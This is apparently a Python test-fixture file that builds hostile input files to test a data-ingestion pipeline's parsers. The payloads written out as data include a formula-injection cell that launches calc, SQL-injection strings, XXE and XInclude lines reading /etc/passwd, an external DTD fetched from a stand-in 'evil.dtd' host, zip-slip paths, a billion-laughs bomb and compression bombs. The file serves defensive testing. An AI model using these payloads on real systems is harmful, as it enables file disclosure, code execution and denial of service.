"""The hostile files: each has a name, the feed whose format it pretends to be, and a maker of its bytes."""

# ruff: noqa: PLW0108  made when they are needed, for they are large

import gzip
import random
import struct
from collections.abc import Callable
from dataclasses import dataclass

from ingest.decode.reading import MAX_RECORD
from tests.hostile.makers import (
    HEADER,
    MEGABYTE,
    ROW,
    XML_HEAD,
    corners,
    dbf_of,
    gzip_of_zeros,
    laughs,
    locked_zip,
    lying_zip,
    nested_zip,
    ring,
    sheet,
    tar,
    tar_device,
    tar_link,
    tar_with_a_hole,
    twice,
    workbook,
    workbook_of_zeros,
    zip,
    zip_of_zeros,
)

GOOD_ROW = ROW.format(no="GOOD")

XML_ROW = "<row><no>X1</no><at>2026-11-01 08:00:00</at><kind>A</kind><story>积水</story></row>"


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Hostile:
    """A file for the drop folder of a feed, made when it is needed."""

    name: str
    feed: str
    file: str
    make: Callable[[], bytes]


HOSTILE: list[Hostile] = []


def _add(name: str, feed: str, make: Callable[[], bytes], file: str = "") -> None:
    endings = {"all": "zip", "detect": "csv"}
    HOSTILE.append(Hostile(name, feed, file or f"hostile.{endings.get(feed, feed)}", make))


def _text(text: str) -> Callable[[], bytes]:
    return lambda: text.encode("utf-8", errors="surrogatepass")


def _csv(rows: str) -> Callable[[], bytes]:
    return _text(HEADER + rows)


def _noise(size: int) -> Callable[[], bytes]:
    return lambda: random.Random(7).randbytes(size)


def _feature(properties: str, geometry: str = "null") -> str:
    feature = f'{{"type": "Feature", "properties": {{{properties}}}, "geometry": {geometry}}}'
    return f'{{"type": "FeatureCollection", "features": [{feature}]}}'


def _long_line(points: int) -> str:
    return '{"type": "LineString", "coordinates": [' + ",".join(["[123.01, 30.41]"] * points) + "]}"


# ---- delimited text
_add("an empty file", "csv", _text(""))
_add("nothing but a byte order mark", "csv", lambda: b"\xef\xbb\xbf")
_add("a header and no row", "csv", _csv(""))
_add("nothing but line ends", "csv", _text("\n" * 100_000))
_add("zero bytes between the cells", "csv", _csv("C1,2026-11-01 08:00:00,A,\x00\x00,1,1\n"))
_add("random bytes", "csv", _noise(200_000))
_add("a quotation mark that never closes", "csv", _csv('C1,2026-11-01 08:00:00,A,"' + "x,\n" * 50_000))
_add("ten thousand columns", "csv", _text(",".join(f"c{i}" for i in range(10_000)) + "\n" + "1," * 9_999 + "1\n"))
_add("rows with too few cells", "csv", _csv("C1\nC2,2026-11-01 08:00:00\n"))
_add("rows with too many cells", "csv", _csv("C1" + ",x" * 500 + "\n"))
_add("a header that repeats its columns", "csv", _text("no,no,at,at,kind\n1,2,3,4,5\n"))
_add("a header in words nobody declared", "csv", _text("编号,时间\nC1,2026-11-01 08:00:00\n"))
_add("another encoding than declared: UTF-16", "csv", lambda: (HEADER + ROW.format(no="C1")).encode("utf-16"))
_add("another encoding than declared: GB18030", "csv", lambda: (HEADER + ROW.format(no="C1")).encode("gb18030"))
_add("half a character at the end", "csv", lambda: (HEADER + "C1,2026-11-01 08:00:00,A,积").encode()[:-1])
_add("cells that are formulas", "csv", _csv("C1,2026-11-01 08:00:00,A,\"=cmd|' /C calc'!A0\",1,1\n"))
_add("cells that are SQL", "csv", _csv("\"C1'; drop table events; --\",2026-11-01 08:00:00,A,x') or 1=1 --,1,1\n"))
_add("a header that is SQL", "csv", _text('"no""; drop table x",at\nC1,2026-11-01 08:00:00\n'))
_add("a cell of ten megabytes", "csv", lambda: (HEADER + f"C1,2026-11-01 08:00:00,A,{'水' * 3_500_000},1,1\n").encode())
_add("a key of a megabyte", "csv", lambda: (HEADER + ROW.format(no="K" * MEGABYTE)).encode())
_add("a line of 300 megabytes", "csv", lambda: HEADER.encode() + b"C1,2026-11-01 08:00:00,A," + b"x" * (300 * MEGABYTE))
_add(
    "numbers that no number holds",
    "csv",
    _csv("C1,2026-11-01 08:00:00,A,x,1e999,-1e999\nC2,2026-11-01 08:00:00,A,x,nan,inf\n"),
)
_add("days that no calendar has", "csv", _csv("C1,0000-00-00 00:00:00,A,x,1,1\nC2,2026-02-30 25:61:61,A,x,1,1\n"))
_add("years that no clock holds", "csv", _csv("C1,99999-01-01 00:00:00,A,x,1,1\nC2,-4000-01-01 00:00:00,A,x,1,1\n"))
_add("marks that turn the writing round", "csv", _csv("C\u202e1,2026-11-01 08:00:00,A,\u202etxt.exe,1,1\n"))
_add("line ends of every kind", "csv", _text(HEADER.replace("\n", "\r") + "C1,2026-11-01 08:00:00,A,x,1,1\r\nC2\r"))
_add(
    "fifty thousand bad rows", "csv", lambda: (HEADER + "".join(f"C{i},昨天,A,x,1,1\n" for i in range(50_000))).encode()
)
_add("one row fifty thousand times", "csv", lambda: (HEADER + ROW.format(no="C1") * 50_000).encode())

# ---- JSON
_add("a document that breaks off", "json", _text('[{"no": "C1", "at": "2026-11-01 08:'))
_add("a hundred thousand brackets", "json", _text("[" * 100_000))
_add("a hundred thousand objects in each other", "json", _text('{"a":' * 100_000 + "1" + "}" * 100_000))
_add("the same name twice", "json", _text('[{"no": "C1", "no": "C2", "at": "2026-11-01 08:00:00", "kind": "A"}]'))
_add("a number with a million digits", "json", lambda: b'[{"no": ' + b"9" * MEGABYTE + b', "kind": "A"}]')
_add("nothing but a number", "json", _text("42"))
_add("nothing but null", "json", _text("null"))
_add("a list of texts", "json", _text('["C1", "C2", null, 3]'))
_add("half a surrogate pair", "json", _text('[{"no": "C\\ud800", "at": "2026-11-01 08:00:00", "kind": "A"}]'))
_add("the login page of a portal", "json", _text("<!doctype html><html><body>请登录</body></html>"))
_add("comments and NaN", "json", _text('[{"no": "C1", /* x */ "lon": NaN}]'))
_add("cells that are documents", "json", _text('[{"no": {"$gt": ""}, "at": ["2026"], "kind": "A"}]'))
_add("a text of fifty megabytes", "json", lambda: b'[{"no": "C1", "story": "' + b"x" * (50 * MEGABYTE) + b'"}]')
_add("a name that is a path", "json", _text('[{"__proto__": 1, "../../etc/passwd": 2, "no": "C1"}]'))
_add(
    "half a line at the end", "jsonl", _text('{"no": "C1", "at": "2026-11-01 08:00:00", "kind": "A"}\n{"no": "C2", "a')
)
_add("lines that are lists", "jsonl", _text('[1]\n"x"\nnull\n{}\n'))
_add("an endless line", "jsonl", lambda: b'{"no": "' + b"x" * (300 * MEGABYTE))

_add(
    "a text as long as a record may be", "json", lambda: b'[{"no": "C1", "story": "' + b"x" * (MAX_RECORD - 99) + b'"}]'
)
_add(
    "a line as long as a record may be", "jsonl", lambda: b'{"no": "C1", "story": "' + b"x" * (MAX_RECORD - 99) + b'"}'
)

# ---- compressed
_add("a gigabyte of nothing, compressed", "csv", lambda: gzip_of_zeros(1024), "hostile.csv.gz")
_add("four gigabytes of nothing, compressed twice", "csv", lambda: gzip.compress(gzip_of_zeros(512)), "hostile.csv.gz")
_add("a compressed file that breaks off", "csv", lambda: gzip.compress(HEADER.encode() * 1000)[:-20], "hostile.csv.gz")
_add("a compressed file that is none", "csv", _noise(5_000), "hostile.csv.gz")
_add("a member that climbs out of its archive", "zip", lambda: zip({"../../escaped.csv": GOOD_ROW.encode()}))
_add("a member with a path from the root", "zip", lambda: zip({"/tmp/escaped.csv": GOOD_ROW.encode()}))
_add("a member with a drive and backslashes", "zip", lambda: zip({"C:\\escaped.csv": GOOD_ROW.encode()}))
_add("a member of a gigabyte", "zip", lambda: zip_of_zeros(1024))
_add("an archive in an archive in an archive", "zip", nested_zip)
_add("ten thousand members", "zip", lambda: zip({f"{i}.csv": b"" for i in range(10_000)}))
_add("members of one name", "zip", twice)
_add("an archive that says less than it holds", "zip", lying_zip)
_add("a locked archive", "zip", locked_zip)
_add("an archive that breaks off", "zip", lambda: zip({"a.csv": HEADER.encode() * 500})[:-40])
_add("a link in an archive", "zip", tar_link, "hostile.tar.gz")
_add("a device in an archive", "zip", tar_device, "hostile.tar.gz")
_add("a path out of a tar archive", "zip", lambda: tar("../../escaped.csv"), "hostile.tar.gz")

# ---- workbooks
_add("a workbook that is none", "xlsx", _noise(4_000))
_add("an archive without a workbook in it", "xlsx", lambda: zip({"readme.txt": b"x"}))
_add("a workbook that unfolds to a gigabyte", "xlsx", workbook_of_zeros)
_add(
    "a workbook with entities",
    "xlsx",
    lambda: workbook(f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{sheet("&e;")}'),
)
_add("a workbook with a million columns", "xlsx", lambda: workbook(sheet("x", reference="XFD1")))
_add("a workbook whose cells lie", "xlsx", lambda: workbook(sheet("x", reference="ZZZZZZ99999999")))
_add("a locked workbook", "xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000))

_add("a workbook with a cell in the farthest corner", "xlsx", lambda: workbook(corners()))
_add("a workbook of a million empty rows", "xlsx", lambda: workbook(sheet("x", reference="A1048576")))

# ---- XML
_add("a billion laughs", "xml", lambda: laughs().encode())
_add(
    "entities that read a file",
    "xml",
    _text(f'{XML_HEAD}<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><rows><row><no>&e;</no></row></rows>'),
)
_add(
    "entities that ask the network",
    "xml",
    _text(f'{XML_HEAD}<!DOCTYPE r SYSTEM "http://192.0.2.1/evil.dtd"><rows>{XML_ROW}</rows>'),
)
_add(
    "one long entity, many times",
    "xml",
    lambda: (
        f'{XML_HEAD}<!DOCTYPE r [<!ENTITY a "{"x" * 100_000}">]><rows><row><no>' + "&a;" * 10_000 + "</no></row></rows>"
    ).encode(),
)
_add("a hundred thousand elements in each other", "xml", _text(XML_HEAD + "<a>" * 100_000 + "</a>" * 100_000))
_add("a document that ends in the middle", "xml", _text(f"{XML_HEAD}<rows>{XML_ROW}<row><no>X2"))
_add("an encoding that it is not in", "xml", _text(f'<?xml version="1.0" encoding="UTF-16"?><rows>{XML_ROW}</rows>'))
_add(
    "an attribute of fifty megabytes",
    "xml",
    lambda: (f'{XML_HEAD}<rows><row a="' + "x" * (50 * MEGABYTE) + '"/></rows>').encode(),
)
_add(
    "an included file",
    "xml",
    _text(
        f'{XML_HEAD}<rows xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="/etc/passwd" parse="text"/></rows>'
    ),
)
_add(
    "a style sheet to be run",
    "xml",
    _text(f'{XML_HEAD}<?xml-stylesheet href="http://192.0.2.1/x.xsl"?><rows>{XML_ROW}</rows>'),
)
_add("no document at all", "xml", _noise(3_000))

# ---- DBF
_add("a table that is none", "dbf", _noise(3_000))
_add(
    "a table that says a billion rows",
    "dbf",
    lambda: struct.pack("<BBBBIHH20x", 3, 126, 11, 1, 10**9, 65, 21) + b"\r" + b" " * 20,
)
_add("a table whose columns are wider than its rows", "dbf", lambda: dbf_of([("no", 200), ("at", 250)], width=5))
_add("a table of a thousand columns and no row", "dbf", lambda: dbf_of([(f"c{i}", 1) for i in range(1000)], width=1001))

# ---- maps
_add(
    "a map in a hundred thousand brackets",
    "geojson",
    _text('{"type": "FeatureCollection", "features": ' + "[" * 100_000),
)
_add("a map of half characters", "geojson", _text(_feature('"no": "C\\ud800", "x\\udfff": 1')))
_add(
    "a map with a point nowhere",
    "geojson",
    _text(_feature('"no": "C1"', '{"type": "Point", "coordinates": ["a", {}]}')),
)
_add("a map whose properties are a list", "geojson", _text('{"type": "Feature", "properties": [1], "geometry": 7}'))
_add("a map with a line of a million points", "geojson", lambda: _feature('"no": "C1"', _long_line(1_000_000)).encode())

_add(
    "a map with a line of half a million points",
    "geojson",
    lambda: _feature('"no": "C1"', _long_line(490_000)).encode(),
)

# ---- names
_add("half a character in a name", "json", _text('[{"no": "C1", "x\\ud800": 1, "\\u0000": 2}]'))
_add("a file whose name is no text", "csv", _csv("C1\n"), "hostile\udcff.csv")
_add("a file whose name has a line end", "csv", _csv("C1\n"), "hostile\n.csv")
_add("members whose names are no text", "all", lambda: tar("\udcff.csv"), "hostile.tgz")
_add("a header of five megabytes", "csv", lambda: b"x" * (5 * MEGABYTE) + b",no\n1,2\n")

# ---- archives that are read as one
_add("ten thousand members, read as one", "all", lambda: zip({f"{i}.csv": b"" for i in range(10_000)}))
_add("a hundred members of ten megabytes", "all", lambda: zip({f"{i}.csv": bytes(10 * MEGABYTE) for i in range(100)}))
_add("an archive with holes", "all", tar_with_a_hole, "hostile.tar")
_add("a bomb in a tar archive", "all", lambda: gzip_of_zeros(1024), "hostile.tgz")

# ---- old workbooks, unsaid encodings
_add("an old workbook that is none", "xls", _noise(9_000))
_add("an old workbook whose sectors go round", "xls", lambda: OLE + b"\x00" * 4_000 + b"\x01" * 60_000)
_add("an old workbook whose only chain is a ring", "xls", ring)
_add("random bytes of no encoding", "detect", _noise(200_000))
_add("a text in two encodings", "detect", lambda: HEADER.encode() + "积水".encode() + "积水".encode("gb18030"))
